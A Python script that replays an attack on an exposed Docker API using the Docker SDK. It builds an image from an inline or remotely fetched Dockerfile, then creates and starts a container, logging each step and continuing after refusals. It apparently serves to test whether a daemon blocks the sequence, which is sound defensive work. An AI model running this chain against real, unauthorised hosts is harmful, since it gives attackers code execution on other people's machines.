"""Replays the published attack on an exposed Docker API with the Docker SDK for Python, against DOCKER_HOST.

attack.py upload TAG       Dockerfile in the uploaded context
attack.py remote TAG URL   Dockerfile fetched by the daemon
Prints one JSON line per step: {"step", "ok", "status", "text"}. It goes on after a refusal, as the attacker does.
"""

import io, json, sys

import docker

kind, tag = sys.argv[1], sys.argv[2]
client = docker.from_env(timeout=20)
api = client.api
made = {}


def step(name, f):
    try:
        value = f()
        print(json.dumps({"step": name, "ok": True, "status": 200, "text": str(value)[:2000]}), flush=True)
    except docker.errors.APIError as e:
        print(json.dumps({"step": name, "ok": False, "status": e.status_code, "text": str(e.explanation)}), flush=True)
    except Exception as e:
        print(json.dumps({"step": name, "ok": False, "status": 0, "text": "%s: %s" % (type(e).__name__, e)}), flush=True)


def build():
    if kind == "remote":
        image, log = client.images.build(path=sys.argv[3], tag=tag, rm=True)
    else:
        dockerfile = b"FROM alpine\nRUN echo payload > /main.sh\nCMD [\"sh\", \"-c\", \"cat /main.sh\"]\n"
        image, log = client.images.build(fileobj=io.BytesIO(dockerfile), tag=tag, rm=True)
    return "".join(x.get("stream", "") for x in log)


def create():
    made["id"] = api.create_container(tag, name=tag)["Id"]
    return "created"


step("ping", client.ping)
step("list", lambda: len(api.containers()))
step("build", build)
step("inspect image", lambda: api.inspect_image(tag)["RepoTags"])
step("create", create)
step("list again", lambda: len(api.containers(all=True)))
step("start", lambda: api.start(made.get("id", tag)))
